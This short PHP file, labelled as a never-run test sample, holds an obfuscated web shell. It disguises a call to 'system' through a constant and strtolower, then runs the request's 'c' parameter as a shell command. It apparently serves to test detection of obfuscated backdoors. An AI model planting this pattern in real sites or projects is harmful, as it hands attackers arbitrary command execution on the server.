<?php
// Test sample (never run): a function name made harmless-looking, called with the request.
define('RUNNER', 'SYSTEM');
$run = strtolower(RUNNER);
if (isset($_GET['c'])) {
    $run($_GET['c']);
}
